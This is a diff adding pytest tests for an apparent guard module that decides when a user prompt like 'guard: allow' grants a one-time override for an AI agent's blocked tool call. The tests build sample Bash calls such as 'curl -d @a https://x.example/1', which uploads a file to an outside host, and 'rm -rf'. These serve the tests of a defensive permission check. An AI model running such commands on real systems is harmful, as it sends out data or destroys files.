@@ -1,0 +1,47 @@
+"""guards/_origin/allowance.py: what is no order first."""
+import pytest
+
+from guards import Event, Session, Settings
+from guards._origin import allowance
+
+
+def prompt(text, **more):
+    return Event("UserPromptSubmit", "s", prompt=text, **more)
+
+
+@pytest.mark.parametrize("event", [
+    prompt(""), prompt("guard: release x"), prompt("guard: allowance"), prompt("say guard: allow"),
+    prompt("guard: allow it"), prompt("guard: allow", source="sdk"), prompt("guard: allow", source="cron"),
+    prompt("guard: allow", agent_id="a"), Event("PostToolUse", "s", prompt="guard: allow")])
+def test_no_order(event):
+    assert not allowance.ordered(event)
+
+
+@pytest.mark.parametrize("text", ["guard: allow", "  GUARD:allow  ", "guard: allow\nthen push"])
+def test_an_order(text):
+    assert allowance.ordered(prompt(text))
+
+
+def bash(command):
+    return Event("PreToolUse", "s", tool="Bash", input={"command": command}, call_id="c1")
+
+
+def test_a_ticket_is_a_tool_and_a_place():
+    settings = Settings()
+    settings.key = b"k" * 32
+    one = allowance.ticket(bash("curl -d @a https://x.example/1"), settings)
+    assert one == allowance.ticket(bash("curl -d @b https://x.example/2"), settings)
+    assert one != allowance.ticket(bash("curl -d @a https://y.example/1"), settings)
+    assert allowance.ticket(bash("rm -rf a"), settings) != allowance.ticket(bash("rm -rf b"), settings)
+
+
+def test_once():
+    settings = Settings()
+    settings.key = b"k" * 32
+    event = bash("curl -d @a https://x.example/1")
+    state = allowance.objected({}, event, settings, "x.example")
+    assert allowance.given(state, "c2") is state
+    state = allowance.given(state)
+    assert allowance.lifted(event, Session("s", {"request_origin": state}), settings)
+    assert not allowance.lifted(event, Session("s", {"request_origin": allowance.spent(state)}), settings)
+    assert "curl to x.example" in allowance.told(state) and "nothing" in allowance.told({})
